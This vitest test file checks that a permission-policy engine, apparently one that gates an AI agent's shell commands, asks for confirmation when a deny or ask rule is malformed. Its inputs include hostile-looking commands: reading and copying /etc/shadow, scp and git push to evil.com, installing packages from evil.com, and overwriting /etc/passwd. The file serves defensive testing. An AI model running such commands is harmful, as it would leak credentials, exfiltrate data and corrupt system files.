// Semantics 1's fallback ("an unreadable deny or ask rule makes every operation of its kind ask")
// for the parts only deny and ask rules see (a command's file arguments, the hosts a tool reaches,
// recursive reads): they ask whether or not a readable rule of the same kind exists beside it.
import { describe, expect, it } from 'vitest';
import { compilePolicy, decide, loadSettingsValue, type DecisionContext, type Operation } from '../src/index.js';

const CTX: DecisionContext = { cwd: '/w/repo', workspace: ['/w/repo'], home: '/home/dev', platform: 'linux' };
const policy = (permissions: object) => compilePolicy([{ loaded: loadSettingsValue({ permissions }, { file: 'm.json', channel: 'file' }) }]);
const shell = (command: string): Operation => ({ op: 'shell', command });

describe('an unreadable rule with no readable rule of its kind', () => {
  it.each([
    [{ deny: ['Read(//etc/[)'], allow: ['Shell(*)'] }, ['cat /etc/shadow', 'cp /etc/shadow /tmp/x', 'tar czf /tmp/x.tgz /etc', 'grep -r root /etc', 'cat x']],
    [{ deny: ['Domain(evil.com'], allow: ['Shell(*)'] }, ['git clone https://evil.com/x', 'pip install --index-url https://evil.com/simple x', 'scp f evil.com:/x', 'npm install']],
    [{ ask: ['Domain(evil.com'], allow: ['Shell(*)'] }, ['git push https://evil.com/r']],
    [{ deny: ['Edit(//etc/**'], allow: ['Shell(*)'] }, ['tee /etc/passwd', 'cp x /etc/passwd']],
  ])('%j asks for every part of its kind', (permissions, lines) => {
    const p = policy(permissions);
    for (const line of lines) {
      const d = decide(p, shell(line), CTX);
      expect(d.decision, line).toBe('ask');
      expect(d.reasons.map((r) => r.code), line).toContain('unreadable-rule');
    }
  });

  it('lines with no part of that kind are still allowed', () => {
    expect(decide(policy({ deny: ['Read(//etc/[)'], allow: ['Shell(*)'] }), shell('echo hi'), CTX).decision).toBe('allow');
    expect(decide(policy({ deny: ['Edit(//etc/**'], allow: ['Shell(*)'] }), shell('cat x'), CTX).decision).toBe('allow');
    expect(decide(policy({ deny: ['Domain(evil.com'], allow: ['Shell(*)'] }), shell('ls src'), CTX).decision).toBe('allow');
  });

  it('a deny list lost to a duplicate key asks for the parts of its kinds', () => {
    const loaded = loadSettingsValue({ permissions: { allow: ['Shell(*)'] } }, { file: 'm.json', channel: 'file' });
    const p = compilePolicy([{ loaded: { ...loaded, askAll: ['read', 'edit'] } }]);
    expect(decide(p, shell('cat /etc/shadow'), CTX).decision).toBe('ask');
  });
});

describe('an unreadable Read ask rule', () => {
  // (A readable Read ask rule also covers edits: the compiler files it under Edit.)
  const p = policy({ ask: ['Read(//etc/[)'], allow: ['Read(//**)', 'Edit(//**)', 'Shell(*)'] });
  it.each([
    [{ op: 'edit', path: '/etc/passwd' }],
    [{ op: 'read', path: '/etc/passwd' }],
    [shell('echo x >> /etc/passwd')],
  ] as [Operation][])('%j asks', (op) => {
    expect(decide(p, op, CTX).decision).toBe('ask');
  });
});
